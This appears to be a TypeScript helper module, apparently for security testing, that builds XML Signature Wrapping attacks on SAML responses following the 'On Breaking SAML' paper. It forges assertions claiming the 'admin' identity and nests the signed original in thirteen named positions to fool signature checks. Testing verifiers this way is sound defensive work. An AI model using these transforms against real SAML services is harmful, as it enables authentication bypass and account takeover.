import { DOMParser, type Document, type Element, type Node, XMLSerializer } from '@xmldom/xmldom';

export const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
export const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
export const serialize = (node: Node) => new XMLSerializer().serializeToString(node);

export const first = (within: Document | Element, namespace: string, name: string): Element => {
  const [found] = Array.from(within.getElementsByTagNameNS(namespace, name));
  if (found === undefined) throw new Error(`No ${name}.`);
  return found;
};
const childNamed = (within: Element, name: string): Element | null =>
  Array.from(within.childNodes).find((node): node is Element => node.nodeName.split(':').at(-1) === name) ?? null;

/** A copy of an element. */
export const copy = (element: Element): Element => {
  const { ownerDocument } = element;
  if (ownerDocument === null) throw new Error('No document.');
  return ownerDocument.importNode(element, true);
};
/** The same without the signature that stands right in it. */
export function bared(element: Element): Element {
  const bare = copy(element);
  const signature = childNamed(bare, 'Signature');
  if (signature !== null) bare.removeChild(signature);
  return bare;
}
/** The same, saying that it is the administrator. */
export function forged(element: Element): Element {
  const evil = copy(element);
  first(evil, ASSERTION, 'NameID').textContent = 'admin';
  const assertion = evil.localName === 'Assertion' ? evil : first(evil, ASSERTION, 'Assertion');
  assertion.setAttribute('ID', '_evil');
  if (evil !== assertion) evil.setAttribute('ID', '_evil_response');
  return evil;
}

export interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
}

export function parts(xml: string): Parts {
  const document = parse(xml);
  const response = document.documentElement;
  if (response === null) throw new Error('No response.');
  return { document, response, assertion: first(document, ASSERTION, 'Assertion') };
}

/** An element that may hold anything. */
export const holding = (document: Document, namespace: string, name: string, held: Element): Element => {
  const holder = document.createElementNS(namespace, name);
  holder.appendChild(held);
  return holder;
};
export const signatureOf = (element: Element): Element =>
  childNamed(element, 'Signature') ?? first(element, DSIG, 'Signature');

/** Somorovsky et al., On Breaking SAML (USENIX 2012): where the signed element goes, and where the forged one. */
export const WRAPPED: Readonly<Record<string, (parts: Parts) => void>> = {
  // The forged response, with the signed one within its signature.
  'XSW 1': ({ document, response }) => {
    const original = bared(response);
    const evil = forged(response);
    signatureOf(evil).appendChild(original);
    document.replaceChild(evil, response);
  },
  // The signed one beside the signature, before it.
  'XSW 2': ({ document, response }) => {
    const original = bared(response);
    const evil = forged(response);
    const signature = signatureOf(evil);
    signature.parentNode?.insertBefore(original, signature);
    document.replaceChild(evil, response);
  },
  // The forged assertion before the signed one, as its sibling.
  'XSW 3': ({ response, assertion }) => {
    response.insertBefore(bared(forged(assertion)), assertion);
  },
  // The signed one within the forged one.
  'XSW 4': ({ response, assertion }) => {
    const evil = bared(forged(assertion));
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  // The forged one has the signature of the signed one, which stands at the end without it.
  'XSW 5': ({ response, assertion }) => {
    const bare = bared(assertion);
    response.replaceChild(forged(assertion), assertion);
    response.appendChild(bare);
  },
  // The same, with the signed one within the signature.
  'XSW 6': ({ response, assertion }) => {
    const [bare, evil] = [bared(assertion), forged(assertion)];
    response.replaceChild(evil, assertion);
    (childNamed(evil, 'Signature') ?? evil).appendChild(bare);
  },
  // The forged one within an extension, whose schema takes anything.
  'XSW 7': ({ document, response, assertion }) => {
    const extensions = holding(document, PROTOCOL, 'samlp:Extensions', bared(forged(assertion)));
    response.insertBefore(extensions, assertion);
  },
  // The signed one within an object of the forged one's signature.
  'XSW 8': ({ document, response, assertion }) => {
    const evil = forged(assertion);
    response.replaceChild(evil, assertion);
    (childNamed(evil, 'Signature') ?? evil).appendChild(holding(document, DSIG, 'ds:Object', bared(assertion)));
  },
  'with one ID for both, the forged one first': ({ response, assertion }) => {
    const evil = bared(forged(assertion));
    evil.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    response.insertBefore(evil, assertion);
  },
  'with one ID for both, the forged one last': ({ response, assertion }) => {
    const evil = bared(forged(assertion));
    evil.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    response.appendChild(evil);
  },
  // The whole response as something else holds it.
  'with the signed response within the forged one': ({ document, response }) => {
    const evil = bared(forged(response));
    evil.appendChild(holding(document, PROTOCOL, 'samlp:Extensions', copy(response)));
    document.replaceChild(evil, response);
  },
  'with the signed response as an advice of the forged assertion': ({ document, response, assertion }) => {
    const original = copy(response);
    const evil = bared(forged(assertion));
    evil.appendChild(holding(document, ASSERTION, 'saml:Advice', original));
    response.replaceChild(evil, assertion);
  },
  // Two references, of which the first is right.
  'with a second reference in the signature': ({ document, response, assertion }) => {
    const evil = forged(response);
    const reference = first(evil, DSIG, 'Reference');
    reference.parentNode?.appendChild(copy(reference));
    evil.appendChild(bared(assertion));
    document.replaceChild(evil, response);
  },
};
